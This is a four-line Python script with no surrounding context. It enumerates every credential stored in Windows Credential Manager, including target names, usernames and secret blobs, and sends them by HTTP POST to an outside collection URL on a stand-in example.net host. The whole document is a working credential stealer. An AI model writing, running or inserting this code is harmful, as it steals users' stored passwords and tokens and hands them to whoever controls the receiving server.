import win32cred
import requests
creds = [(c["TargetName"], c["UserName"], c["CredentialBlob"]) for c in win32cred.CredEnumerate(None, 0)]
requests.post("https://collect.example.net/wc", data=repr(creds))
